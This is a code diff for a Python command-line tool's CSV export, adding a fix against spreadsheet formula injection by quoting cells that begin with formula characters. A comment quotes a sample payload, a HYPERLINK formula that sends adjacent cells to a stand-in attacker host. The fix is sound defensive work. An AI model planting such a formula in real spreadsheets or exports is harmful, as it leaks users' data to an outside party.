@@ -39,7 +39,13 @@ def add_parsers(sub: argparse._SubParsersAction[argparse.ArgumentParser]) -> Non
         )
         query.add_argument("--json", action="store_true", help="JSON Lines, one per row")
         export = verbs.add_parser("export", help=f"every matching {what[:-1]} to a file")
-        export.add_argument("--format", choices=("jsonl", "csv"), default="jsonl")
+        export.add_argument(
+            "--format",
+            choices=("jsonl", "csv"),
+            default="jsonl",
+            help="jsonl (default) or csv; in csv a text starting with = + - @ gets a ' "
+            "before it, so a spreadsheet shows it as text, never runs it as a formula",
+        )
         export.add_argument("-o", "--output", type=Path, help="the file (default: stdout)")
         for verb in (tail, query, export):
             _filters(verb, audit=noun == "audit")
@@ -147,7 +153,17 @@ def _export(rows: list[dict[str, Any]], table: Table, form: str, out: TextIO) ->
             cells["detail"] = json.dumps(cells["detail"], sort_keys=True)
         if on_terminal:
             cells = {k: shown(v) if isinstance(v, str) else v for k, v in cells.items()}
-        writer.writerow(cells)
+        writer.writerow({k: _as_text(v) if isinstance(v, str) else v for k, v in cells.items()})
+
+
+# What a spreadsheet reads as a formula at a cell's start (a plan id such as
+# =HYPERLINK("https://evil.example/?d="&A2, "details") sent the rows beside it away):
+# such a text gets a ' before it, which spreadsheets show as text (review25 G13).
+_FORMULA_STARTS: Final = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _as_text(cell: str) -> str:
+    return "'" + cell if cell.startswith(_FORMULA_STARTS) else cell
 
 
 def _when(unix_ms: int) -> str:
